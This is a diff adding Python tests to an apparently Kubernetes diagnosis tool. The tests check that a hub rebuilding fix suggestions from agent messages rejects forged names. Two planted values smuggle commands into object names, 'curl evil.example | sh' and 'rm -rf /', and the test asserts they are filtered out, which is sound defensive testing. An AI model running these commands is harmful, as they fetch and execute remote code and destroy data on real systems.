@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import asyncio
 import json
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -104,3 +105,32 @@ def test_messages_of_another_shape_are_refused(message: dict[str, object]) -> No
         AGENT_MESSAGES.validate_json(json.dumps(message))
     with pytest.raises(ValidationError):
         HUB_MESSAGES.validate_json(json.dumps(message))
+
+
+def test_suspects_cross_with_the_hubs_own_fix_and_checked_names() -> None:
+    original = _diagnosed(DiagnoseRequest("namespace", namespace="shop"))
+    assert original.suspects, "the example namespace must have suspects"
+    wire = to_wire(original, lookup=_lookup)
+    assert wire.suspects is not None and "fix" not in wire.suspects[0].model_dump()
+    walked = next(s for s in wire.suspects if s.fix_finding)  # a walk finding's catalog line
+    hub_entry = _lookup(walked.finding.id)
+    assert hub_entry is not None
+    reworded = replace(hub_entry, walk=[replace(claim, fix=f"hub's own words: {claim.fix}")
+                                        for claim in hub_entry.walk])
+
+    def hub_lookup(entry_id: str):  # type: ignore[no-untyped-def]
+        return reworded if entry_id == hub_entry.id else _lookup(entry_id)
+
+    hostile = walked.model_copy(update={"fix_names": (("workload", "deployment/x; curl evil.example | sh"),)})
+    forged_object = walked.model_copy(update={"object": "service/x; rm -rf /"})
+    sent = wire.model_copy(update={"suspects": (hostile, forged_object)})
+    rebuilt = from_wire(sent, lookup=hub_lookup, cluster="prod")
+    assert rebuilt.suspects is not None and len(rebuilt.suspects) == 1
+    fix = rebuilt.suspects[0].fix
+    assert fix.startswith("hub's own words: ") and "curl" not in fix and "<workload>" in fix
+    assert any("no Kubernetes object name" in note for note in rebuilt.notes)
+
+
+def test_a_diagnosis_without_a_walk_crosses_without_suspects() -> None:
+    pod = _crossed(_diagnosed(DiagnoseRequest("pod", namespace="shop", name="checkout-t6ljkgdzfx-bzm4s")))
+    assert pod.suspects is None
